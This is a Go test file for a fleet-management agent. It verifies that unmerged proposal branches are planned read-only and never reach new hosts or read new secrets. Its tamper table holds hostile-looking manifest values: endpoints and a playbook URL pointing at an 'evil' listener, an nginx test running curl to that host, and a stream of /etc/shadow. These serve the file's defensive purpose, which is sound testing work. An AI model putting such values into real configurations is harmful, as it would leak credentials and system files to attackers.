package main

import (
	"context"
	"crypto/ed25519"
	"encoding/pem"
	"errors"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/rogpeppe/go-internal/testscript"
	"golang.org/x/crypto/ssh"

	"berth/agent/internal/config"
	"berth/agent/internal/gitserve"
	"berth/agent/internal/turn"
	"berth/applyers/proxmox/pvesim"
	"berth/drift/report"
)

const proposalFleet = `kind: Fleet
name: small
uid: 5b1f0c2e
ssh: {user: root, key: {secret: edge-key}, knownHosts: learn}
---
kind: Secret
name: pve
file: $TOKEN
---
kind: Secret
name: edge-key
file: $EDGEKEY
---
kind: Secret
name: other
file: $OTHER
---
kind: Site
name: home
endpoints: ["$ENDPOINT"]
tls: {fingerprint: "$FINGERPRINT"}
token: {secret: pve}
node: proxmox-1
storage: {ssd: {store: local-nvme}}
images: local
networks: {lan: {bridge: vmbr0, subnet: 10.1.1.0/24, gateway: 10.1.1.1}}
---
kind: Image
name: debian-12
url: https://example.com/debian-12.tar.zst
sha256: $DEBIAN
---
kind: Container
name: web
site: home
id: 201
memory: 512MiB
disks: {rootfs: {image: debian-12, storage: ssd, size: 8GiB}}
networks: {net0: {address: 10.1.1.5}}
---
kind: Host
name: proxy
address: 10.9.9.1
ssh: {port: 2201}
---
kind: Edge
name: main
at: host/proxy
tls:
  default: reject
  routes: {git.example.net: "ct/web:443"}
http: {default: redirect}
`

// proposing is an agent whose branch somebody makes proposals for. Nobody who was not
// accepted is to hear of it: evil counts who calls there.
type proposing struct {
	t      *testing.T
	dir    string
	sim    *simulator
	w      *wiring
	server *gitserve.Server
	expand *strings.Replacer
	evil   net.Listener

	mu     sync.Mutex
	called int
	dialed []string
	looked []string
}

func newProposals(t *testing.T) *proposing {
	t.Helper()
	p := &proposing{t: t, dir: t.TempDir()}
	ctx, stop := context.WithCancel(context.Background())
	t.Cleanup(stop)
	var err error
	if p.sim, err = startSimulator(ctx, "127.0.0.1:0", pvesim.Options{Now: time.Now}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.sim.close() })
	if p.evil, err = new(net.ListenConfig).Listen(ctx, "tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	listening := make(chan struct{})
	go func() {
		defer close(listening)
		for {
			conn, err := p.evil.Accept()
			if err != nil {
				return
			}
			p.mu.Lock()
			p.called++
			p.mu.Unlock()
			_ = conn.Close()
		}
	}()
	t.Cleanup(func() { _ = p.evil.Close(); <-listening })
	if p.server, err = gitserve.New(filepath.Join(p.dir, "fleet.git")); err != nil {
		t.Fatal(err)
	}
	hosted, err := new(net.ListenConfig).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	web := &http.Server{Handler: p.server, ReadHeaderTimeout: time.Second}
	ended := make(chan struct{})
	go func() { defer close(ended); _ = web.Serve(hosted) }()
	t.Cleanup(func() { _ = web.Close(); <-ended })
	secret := func(name, text string) string {
		file := filepath.Join(p.dir, name)
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return file
	}
	p.expand = strings.NewReplacer(
		"$TOKEN", secret("token", p.sim.token), "$EDGEKEY", secret("edgekey", privateKey(t)), "$OTHER", secret("other", "another-secret"),
		"$ENDPOINT", p.sim.endpoint, "$FINGERPRINT", p.sim.fingerprint, "$DEBIAN", pvesim.Sum("https://example.com/debian-12.tar.zst", "sha256"),
		"$EVIL", p.evil.Addr().String(),
	)
	settings := &config.Settings{State: filepath.Join(p.dir, "state"), SecretFiles: []string{p.dir}}
	settings.Repository.URL, settings.Repository.Branch = "http://"+hosted.Addr().String()+"/fleet.git", "main"
	p.w, err = newWiring(streams{Env: func(string) string { return "" }, Err: io.Discard}, settings, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.w.close() })
	p.w.dial = func(_ context.Context, _, address string) (net.Conn, error) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.dialed = append(p.dialed, address)
		if strings.HasPrefix(address, "10.1.1.5:") {
			here, there := net.Pipe()
			return here, there.Close() // The guest is ready.
		}
		return nil, errors.New("nobody is there")
	}
	p.w.turner.Surroundings.Resolve = func(_ context.Context, host string) ([]string, error) {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.looked = append(p.looked, host)
		return nil, errors.New("no such host")
	}
	return p
}

// propose is the verb of scripts: main stays where it is.
func (w *testWorld) propose(ts *testscript.TestScript, args []string) error {
	repo, err := git.PlainOpen(filepath.Join(w.dir, "fleet.git"))
	if err != nil {
		return err
	}
	held := w.held
	main, err := repo.Reference("refs/heads/main", true)
	if err != nil {
		return err
	}
	if err := w.push(ts, args[1:]); err != nil {
		return err
	}
	w.held = held
	head, err := repo.Reference("refs/heads/main", true)
	if err != nil {
		return err
	}
	return errors.Join(
		repo.Storer.SetReference(plumbing.NewHashReference(plumbing.ReferenceName(args[0]), head.Hash())),
		repo.Storer.SetReference(plumbing.NewHashReference("refs/heads/main", main.Hash())),
	)
}

// push commits to main; propose gives the commit another name, and main its old place.
func (p *proposing) push(text string) string {
	p.t.Helper()
	text = p.expand.Replace(text)
	hash, err := p.server.Commit(map[string]*string{"fleet.yaml": &text}, "a commit")
	if err != nil {
		p.t.Fatal(err)
	}
	return hash
}

func (p *proposing) propose(ref, text string) string {
	p.t.Helper()
	repo, err := git.PlainOpen(filepath.Join(p.dir, "fleet.git"))
	if err != nil {
		p.t.Fatal(err)
	}
	main, err := repo.Reference("refs/heads/main", true)
	if err != nil {
		p.t.Fatal(err)
	}
	hash := p.push(text)
	for name, to := range map[string]string{ref: hash, "refs/heads/main": main.Hash().String()} {
		if err := repo.Storer.SetReference(plumbing.NewHashReference(plumbing.ReferenceName(name), plumbing.NewHash(to))); err != nil {
			p.t.Fatal(err)
		}
	}
	return hash
}

func (p *proposing) turn(req turn.Request) *report.Report {
	p.t.Helper()
	rep, err := p.w.turner.Run(p.t.Context(), req)
	if err != nil {
		p.t.Fatal(err)
	}
	return rep
}

// privateKey is one that OpenSSH reads.
func privateKey(t *testing.T) string {
	t.Helper()
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	block, err := ssh.MarshalPrivateKey(key, "")
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(block))
}

func blindOf(rep *report.Report) (all []string) {
	for _, b := range rep.Plan.Blind {
		what := string(b.ID)
		if b.ID == "" {
			what = "site/" + b.Site
		}
		all = append(all, what+": "+b.Reason)
	}
	return all
}

// A proposal that only changes what it may is planned against what is live, and leaves
// nothing behind.
func TestProposalIsPlanned(t *testing.T) {
	p := newProposals(t)
	base := p.push(proposalFleet)
	p.turn(turn.Request{Mode: report.Run})
	again := p.turn(turn.Request{Mode: report.Drift})
	head := p.propose("refs/pull/7/head", strings.Replace(proposalFleet, "memory: 512MiB", "memory: 256MiB", 1))
	writes := len(p.sim.cluster.Requests())
	rep := p.turn(turn.Request{Mode: report.Drift, Commit: "refs/pull/7/head"})
	var text strings.Builder
	if err := report.Text(&text, rep, report.TextOptions{Now: time.Now()}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"512MiB → 256MiB", "proposed: planned as it would be on top of " + base[:7]} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("the report lacks %q:\n%s", want, text.String())
		}
	}
	if rep.Commit.Hash != head || rep.Proposal.Onto.Hash != base || rep.Mode != report.Drift {
		t.Errorf("of %s onto %s", rep.Commit.Hash, rep.Proposal.Onto.Hash)
	}
	for _, r := range p.sim.cluster.Requests()[writes:] {
		if r.Method != http.MethodGet {
			t.Errorf("the proposal has written: %s %s", r.Method, r.Path)
		}
	}
	if c, _ := p.w.repository.Accepted(); c.Hash != base {
		t.Errorf("accepted is %s", c.Hash)
	}
	if after := p.turn(turn.Request{Mode: report.Drift}); after.Plan.Digest != again.Plan.Digest {
		t.Error("the proposal has changed what a turn plans")
	}
	if known := p.w.turner.Known(); known.Commit != base {
		t.Errorf("what is known is of %s", known.Commit)
	}
	if _, err := p.w.turner.Run(t.Context(), turn.Request{Mode: report.Run, Commit: head}); err == nil || !strings.Contains(err.Error(), "merge it") {
		t.Errorf("it was applied: %v", err)
	}
}

// One that does not load says where.
func TestProposalThatDoesNotLoad(t *testing.T) {
	p := newProposals(t)
	p.push(proposalFleet)
	p.turn(turn.Request{Mode: report.Run})
	p.propose("refs/heads/bad", strings.Replace(proposalFleet, "memory: 512MiB", "memroy: 512MiB", 1))
	rep := p.turn(turn.Request{Mode: report.Drift, Commit: "bad"})
	if rep.Plan != nil || rep.Refused == nil || len(rep.Refused.Problems) == 0 || !strings.Contains(rep.Refused.Problems[0], "fleet.yaml:") {
		t.Errorf("%+v", rep.Refused)
	}
}

// Whatever a proposal's manifests say, nobody hears of it whom the enforced commit does
// not talk to, and no secret is read for it but those that are read anyway.
func TestProposalReachesNobodyNew(t *testing.T) {
	replace := func(pairs ...string) func(string) string {
		return func(s string) string {
			out := strings.NewReplacer(pairs...).Replace(s)
			if out == s {
				t.Fatalf("%q changes nothing", pairs)
			}
			return out
		}
	}
	add := func(text string) func(string) string {
		return func(s string) string { return s + "---\n" + text }
	}
	const changed, isNew = "the proposal changes how it is reached; it is not asked before that is merged", "it is new, and is not asked before it is merged"
	const otherFleet = "the proposal changes which guests are this fleet's; none is looked at before that is merged"
	host, port := "127.0.0.1", "$PORT"
	p := newProposals(t)
	p.push(proposalFleet)
	p.turn(turn.Request{Mode: report.Run})
	_, evilPort, _ := net.SplitHostPort(p.evil.Addr().String())
	for _, row := range []struct {
		name   string
		tamper func(string) string
		dark   []string // what is unknown
		why    string
		quiet  bool // not even the edge's machine, as it is accepted, is asked
	}{
		{"another endpoint", replace(`["$ENDPOINT"]`, `["https://$EVIL"]`), []string{"site/home"}, changed, false},
		{"one more endpoint", replace(`["$ENDPOINT"]`, `["https://$EVIL", "$ENDPOINT"]`), []string{"site/home"}, changed, false},
		{"another name for it", replace(`["$ENDPOINT"]`, `["https://leak.evil.example:8006"]`), []string{"site/home"}, changed, false},
		{"no fingerprint", replace(`tls: {fingerprint: "$FINGERPRINT"}`, ""), []string{"site/home"}, changed, false},
		{"another token", replace("token: {secret: pve}", "token: {secret: other}"), []string{"site/home"}, changed, false},
		{"the token elsewhere", replace("file: $TOKEN", "file: $OTHER"), nil, "", false},
		{"a site of its own", add("kind: Site\nname: evil\nendpoints: [\"https://$EVIL\"]\ntls: {fingerprint: \"$FINGERPRINT\"}\ntoken: {secret: other}\nnode: x\nimages: local\n"), []string{"site/evil"}, isNew, false},
		{"the edge's host elsewhere", replace("address: 10.9.9.1\nssh: {port: 2201}", "address: "+host+"\nssh: {port: "+port+"}"), []string{"edge/main"}, changed, true},
		{"another user there", replace("ssh: {port: 2201}", "ssh: {port: 2201, user: evil}"), []string{"edge/main"}, changed, true},
		{"another key for it", replace("ssh: {port: 2201}", "ssh: {port: 2201, key: {secret: other}}"), []string{"edge/main"}, changed, true},
		{"another user for all", replace("ssh: {user: root,", "ssh: {user: evil,"), []string{"edge/main"}, changed, true},
		{"another machine", replace("kind: Edge", "kind: Host\nname: evil\naddress: "+host+"\n---\nkind: Edge", "at: host/proxy", "at: host/evil"), []string{"edge/main"}, changed, true},
		{"this machine", replace("at: host/proxy", "at: local"), []string{"edge/main"}, changed, true},
		{"another file there", replace("at: host/proxy", "at: host/proxy\nnginx: {stream: /etc/shadow}"), []string{"edge/main"}, changed, true},
		{"another program there", replace("at: host/proxy", "at: host/proxy\nnginx: {test: [curl, \"http://$EVIL\"]}"), []string{"edge/main"}, changed, true},
		{"the edge gone and its host elsewhere", func(s string) string {
			s, _, _ = strings.Cut(s, "---\nkind: Edge")
			return replace("address: 10.9.9.1", "address: "+host)(s)
		}, nil, "", true},
		{"an edge of its own", add("kind: Host\nname: evil\naddress: " + host + "\nssh: {port: " + port + "}\n---\nkind: Edge\nname: evil\nat: host/evil\ntls: {default: reject}\nhttp: {default: redirect}\n"), []string{"edge/evil"}, isNew, false},
		{"an image from elsewhere", replace("url: https://example.com/debian-12.tar.zst", "url: https://$EVIL/debian-12.tar.zst"), nil, "", false},
		{"a playbook from elsewhere", add("kind: Playbook\nname: evil\npath: site.yml\ngit: {url: \"http://$EVIL/plays.git\", ref: main, key: {secret: other}}\nhosts: proxy\n"), nil, "", false},
		{"a guest that claims an address", add("kind: Container\nname: more\nsite: home\nid: 202\nmemory: 512MiB\ndisks: {rootfs: {image: debian-12, storage: ssd, size: 8GiB}}\nnetworks: {net0: {address: 10.1.1.77}}\n"), nil, "", false},
		{"another fleet", replace("uid: 5b1f0c2e", "uid: 11111111"), []string{"site/home"}, otherFleet, true},
		{"another fleet's former name", replace("uid: 5b1f0c2e", "uid: 5b1f0c2e\nrenamedFrom: theirs"), []string{"site/home"}, otherFleet, true},
	} {
		t.Run(row.name, func(t *testing.T) {
			p.propose("refs/heads/evil", strings.ReplaceAll(row.tamper(proposalFleet), "$PORT", evilPort))
			p.mu.Lock()
			p.dialed, p.looked = nil, nil
			p.mu.Unlock()
			asked := len(p.sim.cluster.Requests())
			rep := p.turn(turn.Request{Mode: report.Drift, Commit: "evil"})
			p.mu.Lock()
			defer p.mu.Unlock()
			if p.called > 0 {
				t.Errorf("the attacker was called %d times", p.called)
			}
			for _, at := range p.dialed {
				if at != "10.9.9.1:2201" || row.quiet {
					t.Errorf("%s was dialed", at)
				}
			}
			if !row.quiet && len(p.dialed) == 0 {
				t.Error("the edge, as it is accepted, was not asked: nothing is proven")
			}
			for _, name := range p.looked {
				if strings.Contains(name, "evil") {
					t.Errorf("%s was looked up", name)
				}
			}
			for _, r := range p.sim.cluster.Requests()[asked:] {
				if r.Method != http.MethodGet || strings.Contains(r.Path, "query-url") {
					t.Errorf("the site was asked %s %s", r.Method, r.Path)
				}
			}
			if rep.Plan == nil {
				t.Fatalf("no plan: %+v", rep.Refused)
			}
			blind := blindOf(rep)
			for _, what := range row.dark {
				if !slices.Contains(blind, what+": "+row.why) {
					t.Errorf("%s is not unknown for that: %q", what, blind)
				}
			}
			if row.why == otherFleet && len(p.sim.cluster.Requests()) != asked {
				t.Error("the site was asked about another fleet")
			}
			if len(row.dark) == 0 {
				for _, b := range blind {
					if strings.HasPrefix(b, "site/") {
						t.Errorf("the site was read by another secret: %s", b)
					}
				}
			}
		})
	}
}
